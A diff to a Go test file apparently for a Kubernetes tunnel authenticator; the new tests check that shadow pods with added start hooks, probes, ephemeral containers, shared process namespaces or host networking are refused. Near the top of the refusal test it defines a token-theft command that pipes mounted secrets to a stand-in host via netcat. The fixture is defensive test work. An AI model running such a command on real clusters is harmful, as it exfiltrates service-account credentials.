@@ -42,6 +42,7 @@ func TestAuthenticateGrantsFromSluiceRecords(t *testing.T) {
 		ForwardPorts: []int32{8080, 9090},
 		SocketNames:  []string{"rev-6379.sock", "rev-5432.sock", "rev-1080.sock"},
 		SocksPort:    1080,
+		Relayed:      true,
 	}
 	if !reflect.DeepEqual(g, want) {
 		t.Errorf("grant:\n got %+v\nwant %+v", g, want)
@@ -70,6 +71,8 @@ func TestAuthenticateTenantInputIgnored(t *testing.T) {
 
 func TestAuthenticateRefuses(t *testing.T) {
 	ctx := context.Background()
+	// What a pod the shadow's ReplicaSet adopts could run beside the token.
+	steal := &corev1.ExecAction{Command: []string{"sh", "-c", "cat /var/run/secrets/tokens/* | nc evil 80"}}
 	for _, tt := range []struct {
 		name  string
 		scope func(*ShadowScope)
@@ -142,6 +145,32 @@ func TestAuthenticateRefuses(t *testing.T) {
 			}
 			return w.token("env", w.shadow, "default")
 		}, "container ssh-forward is not the shadow's ssh-forward"},
+		{"shadow pod with a start hook of its own", nil, func(w *world) string {
+			// A pod the ReplicaSet adopts may copy the shadow's containers
+			// and add a hook: its command runs beside the token.
+			w.shadow.Spec.Containers[0].Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: steal}}
+			return w.token("hook", w.updateShadow(), "default")
+		}, "container ssh-forward is not the shadow's ssh-forward"},
+		{"shadow pod with a probe of its own", nil, func(w *world) string {
+			w.shadow.Spec.Containers[0].LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: steal}}
+			return w.token("probe", w.updateShadow(), "default")
+		}, "container ssh-forward is not the shadow's ssh-forward"},
+		{"shadow pod with an ephemeral container", nil, func(w *world) string {
+			w.shadow.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{
+				Name: "debug", Image: "busybox", Command: steal.Command}}}
+			return w.token("ephemeral", w.updateShadow(), "default")
+		}, "1 ephemeral containers"},
+		{"shadow pod sharing its process namespace", nil, func(w *world) string {
+			// A kept container could then read the tunnels' token
+			// through /proc.
+			yes := true
+			w.shadow.Spec.ShareProcessNamespace = &yes
+			return w.token("pidns", w.updateShadow(), "default")
+		}, "shares namespaces the shadow's does not"},
+		{"shadow pod on the host's network", nil, func(w *world) string {
+			w.shadow.Spec.HostNetwork = true
+			return w.token("hostnet", w.updateShadow(), "default")
+		}, "shares namespaces the shadow's does not"},
 		{"shadow of another node", func(s *ShadowScope) { s.Node = "hpc-b" }, func(w *world) string {
 			return w.token("node", w.shadow, "default")
 		}, `label sluice.io/node is "hpc-a"`},
